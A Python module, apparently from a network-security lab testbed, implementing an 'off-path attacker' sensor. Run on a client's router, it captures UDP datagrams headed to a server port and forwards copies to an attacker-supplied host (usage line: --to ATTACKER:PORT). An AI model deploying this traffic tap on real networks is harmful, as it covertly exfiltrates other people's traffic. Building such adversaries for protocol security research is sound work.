"""The off-path attacker's sensor: copies of the client's datagrams to the server, sent to the attacker.

``python -m lab.endpoints.adversary.tap --iface IF --server-port 443 --to ATTACKER:PORT``

Run by the controller inside a client network's router, on its LAN interface: what a radio on the
same Wi-Fi hears, before the router's NAT and before any delay the link adds (the delay line
queues packets in netfilter, after a packet socket has seen them). Each copy goes to the attacker
as the payload of a UDP datagram; the attacker decides what to do with it.
"""

from __future__ import annotations

import argparse
import signal
import socket
import sys

from lab.endpoints.adversary.packets import parse_ipv4_udp

ETH_P_IP = 0x0800


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--iface", required=True)
    parser.add_argument("--server-port", type=int, default=443)
    parser.add_argument("--to", required=True, help="attacker ip:port")
    args = parser.parse_args(argv)
    host, _, port = args.to.rpartition(":")
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    sniff.bind((args.iface, ETH_P_IP))
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    print(f"tap: copying udp/{args.server_port} heard on {args.iface} to {args.to}", flush=True)
    while True:
        packet, address = sniff.recvfrom(65535)
        if address[2] == socket.PACKET_OUTGOING:
            continue  # what the router sends onto the LAN: the server's side, not the client's
        datagram = parse_ipv4_udp(packet)
        if datagram is not None and datagram.dport == args.server_port:
            out.sendto(datagram.payload, (host, int(port)))


if __name__ == "__main__":
    sys.exit(main())
